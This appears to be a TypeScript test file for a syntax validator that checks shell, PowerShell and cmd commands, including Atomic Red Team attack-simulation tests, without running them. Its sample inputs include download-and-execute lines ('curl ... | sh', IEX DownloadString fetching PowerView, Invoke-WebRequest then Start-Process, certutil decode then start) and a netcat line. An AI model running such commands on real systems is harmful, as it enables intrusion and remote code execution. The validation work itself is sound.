import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { AtomicLibrary } from '../../../src/generate/atomic/load.js';
import { BinaryCatalog } from '../../../src/generate/knowledge/catalog.js';
import { checkCommand, placeholderProblems } from '../../../src/generate/validate/check.js';
import { hasSharedData, sharedData } from '../../helpers.js';

const ctx = { catalog: new BinaryCatalog() };

describe('command checks', () => {
  it('sh and bash: the shell parser decides, nothing runs', () => {
    assert.equal(checkCommand('curl -s http://x | sh\nif [ -f a ]; then echo ok; fi', 'sh', ctx).ok, true);
    const bad = checkCommand('if [ -f a ]; then echo ok', 'sh', ctx);
    assert.equal(bad.ok, false);
    assert.match(bad.errors[0]!, /end of file|unexpected/);
    assert.equal(checkCommand('[[ -n $x ]] && echo y', 'bash', ctx).ok, true);
    // a command that would leave a trace if it ran: -n must not run it
    const marker = join('/tmp', `ttpscope-check-${process.pid}`);
    checkCommand(`touch ${marker}`, 'sh', ctx);
    assert.equal(existsSync(marker), false);
  });
  it('PowerShell: structure, known commands, functions, loaded code', () => {
    assert.equal(checkCommand("$p = \"$env:TEMP\\a.exe\"; Invoke-WebRequest -Uri 'http://x/a' -OutFile $p; Start-Process $p", 'powershell', ctx).ok, true);
    assert.equal(checkCommand('function Get-Loot { Get-ChildItem C:\\ }\nGet-Loot', 'powershell', ctx).ok, true);
    const typo = checkCommand('Invoke-WebRequset -Uri http://x', 'powershell', ctx);
    assert.equal(typo.ok, false);
    assert.match(typo.errors[0]!, /unknown cmdlet Invoke-WebRequset/);
    assert.equal(checkCommand('Get-Item (C:\\x', 'powershell', ctx).ok, false);
    const loaded = checkCommand("IEX (New-Object Net.WebClient).DownloadString('http://x/PowerView.ps1'); Get-DomainUser", 'powershell', ctx);
    assert.equal(loaded.ok, true);
    assert.match(loaded.warnings[0]!, /loaded at run time/);
    assert.equal(checkCommand('Out-ATHThing -X 1', 'powershell', { ...ctx, before: ['Install-Module -Name AtomicTestHarnesses -Force'] }).ok, true);
    assert.equal(checkCommand('frobnicate.exe /x', 'powershell', ctx).ok, false);
  });
  it('cmd: quotes, blocks, built-ins and known programs', () => {
    assert.equal(checkCommand('copy /y a.txt %TEMP%\\b.txt & certutil -decode b.txt c.exe\nif exist c.exe (start c.exe) else (echo missing)', 'command_prompt', ctx).ok, true);
    assert.equal(checkCommand('certutil -f "http://x', 'command_prompt', ctx).ok, false);
    assert.match(checkCommand('certutl -f http://x a', 'command_prompt', ctx).errors[0]!, /unknown program certutl/);
    assert.equal(checkCommand('powershell -c "Get-Proces"', 'command_prompt', ctx).ok, false);
  });
  it('finds unfilled placeholders', () => {
    assert.deepEqual(placeholderProblems('ping 10.0.0.1'), []);
    assert.match(placeholderProblems('curl #{url}')[0]!, /Atomic argument/);
    assert.match(placeholderProblems('ssh <TARGET_HOST>')[0]!, /angle brackets/);
    assert.match(placeholderProblems('ping xxx.xxx.xxx.xxx')[0]!, /address/);
    assert.deepEqual(placeholderProblems("perl -e 'while(<STDIN>){print}'"), []);
    assert.equal(checkCommand('nc #{host} 4444', 'sh', ctx).ok, false);
  });
  it('passes the installed Atomic tests (defaults filled) except their known bugs', { skip: !hasSharedData }, () => {
    const lib = new AtomicLibrary(join(sharedData, 'atomic-red-team', 'atomics'));
    let n = 0;
    let ok = 0;
    const failures = new Set<string>();
    for (const t of lib.techniques()) {
      for (const ref of lib.testsFor(t)) {
        const ex = ref.test.executor;
        if (ex.name === 'manual') continue;
        const unix = ex.name === 'sh' || ex.name === 'bash';
        const fill = (s: string): string =>
          s.replace(/PathToAtomicsFolder/g, unix ? '/opt/art' : 'C:\\art').replace(/#\{([^}\s]+)\}/g, (m, a: string) => String(ref.test.input_arguments?.[a]?.default ?? ''));
        const before = (ref.test.dependencies ?? []).flatMap((d) => [fill(d.prereq_command), fill(d.get_prereq_command)]);
        n++;
        if (checkCommand(fill(ex.command!), ex.name, { ...ctx, before }).ok) ok++;
        else failures.add(`${ref.technique}-${ref.number}`);
      }
    }
    // genuinely broken upstream: `else if` without `then`, an unquoted IP as a command, a cmdlet under cmd.exe
    for (const known of ['T1685-6', 'T1573-1', 'T1082-27']) assert.ok(failures.has(known), `${known} should fail`);
    assert.ok(ok / n >= 0.98, `${ok}/${n} Atomic commands pass`);
  });
});
